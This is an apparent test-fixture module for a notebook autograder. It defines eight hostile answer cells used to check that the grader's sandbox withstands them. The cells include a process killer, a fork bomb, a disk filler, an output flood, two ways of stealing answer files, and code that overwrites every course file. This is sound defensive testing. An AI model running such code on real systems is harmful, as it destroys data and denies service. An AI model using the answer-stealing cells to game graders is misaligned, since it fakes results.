"""Notebooks that attack the grader: the hostile corpus (docs/security.md lists what stops each).

Each attack is the code of one answer cell of a `fashion_dense` notebook
(``class_names``), so that the attacker loses that cell's test at least.
`tests/test_grading.py` grades every attack in one real batch beside right
and wrong notebooks and checks that the batch finishes, the right notebooks
keep full marks, each attacker loses what is listed here, and nothing else
in the course changes. Attacks on the grader's processes are graded with
every other answer right (the rest of the notebook, training included, must
still grade); the others with only the next answer (``scale_images``)
right, so that no model trains in them (tests/fashion_dense_batch.py).

``{course}`` in an attack's code is replaced by the course root (what a
student could guess or read in a path the grader printed).
"""

from __future__ import annotations

from dataclasses import dataclass

CELL = "class_names"
MARK = "ATTACKED-BY-A-NOTEBOOK"


@dataclass(frozen=True)
class Attack:
    """One hostile answer cell.

    Attributes:
        name: the student id it is graded under.
        code: the cell's code (``{course}``: the course root).
        loses: ``"cell"`` (only the attacked cell's test) or ``"all"`` (every
            test: the attack ends its own kernel).
        harms_without_sandbox: True when, on a machine without namespaces,
            the attack would harm the grader itself (such attacks are
            graded only where the sandbox is in force).
        unsandboxed_loses: what it loses where the sandbox is not in force
            (``"cell"``, ``"all"`` or ``"none"``: the attack succeeds there).
    """

    name: str
    code: str
    loses: str = "cell"
    harms_without_sandbox: bool = False
    unsandboxed_loses: str = "cell"


KILL_EVERYTHING = """
import os, signal
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            command = open(f"/proc/{name}/cmdline", "rb").read()
            if any(word in command for word in (b"autograder", b"nbgrader", b"ipykernel", b"python")):
                os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
"""
SIGNAL_PARENT = """
import os, signal
for number in (signal.SIGKILL, signal.SIGINT, signal.SIGSTOP):
    try:
        os.kill(os.getppid(), number)
    except OSError:
        pass
"""
FORK_BOMB = """
import os, time
children = 0
try:
    for _ in range(100_000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError:
    pass
time.sleep(5)
"""
FILL_THE_DISK = """
import os, tempfile
block = os.urandom(1 << 20) * 64
for folder in (os.getcwd(), tempfile.gettempdir()):
    for number in range(1000):
        try:
            with open(os.path.join(folder, f"filler-{number}"), "wb") as filler:
                for _ in range(16):
                    filler.write(block)
        except OSError:
            break
"""
# One line: nbgrader's own LimitOutput counts lines (1,000), so 50 MB on one line would pass it whole.
PRINT_MEGABYTES = """
import sys
sys.stdout.write("spam " * 10_000_000)
"""
IMPORT_ANSWERS = """
from autograder.authoring.corpus import fashion_dense as answers
exec(answers.SECOND_CORRECT["class_names"])
"""
READ_ANSWER_FILES = """
import glob, os, sys
places = [os.path.dirname(path) for path in sys.path if path] + ["{course}", "/"]
found = [path for place in places for path in glob.glob(os.path.join(place, "**", "corpus", "fashion_dense.py"),
                                                         recursive=True)[:1]]
namespace = {}
exec(open(found[0]).read(), namespace)
exec(namespace["SECOND_CORRECT"]["class_names"])
"""
WRITE_THE_COURSE = """
import glob, os
for path in glob.glob("{course}/**/*", recursive=True) + glob.glob("/tmp/**/results.json", recursive=True):
    try:
        if os.path.isfile(path):
            open(path, "w").write("{mark}")
    except OSError:
        pass
"""

ATTACKS = (
    Attack("kills_everything", KILL_EVERYTHING, harms_without_sandbox=True),
    Attack("signals_parent", SIGNAL_PARENT, harms_without_sandbox=True),
    Attack("fork_bomb", FORK_BOMB, loses="all", harms_without_sandbox=True),
    Attack("fills_disk", FILL_THE_DISK, loses="all", harms_without_sandbox=True),
    Attack("prints_megabytes", PRINT_MEGABYTES),
    Attack("imports_answers", IMPORT_ANSWERS, unsandboxed_loses="none"),
    Attack("reads_answer_files", READ_ANSWER_FILES, unsandboxed_loses="none"),
    Attack("writes_the_course", WRITE_THE_COURSE, harms_without_sandbox=True),
)


def code(attack: Attack, course_root: str) -> str:
    """The attack's cell code for a course at ``course_root``."""
    return attack.code.replace("{course}", course_root).replace("{mark}", MARK)
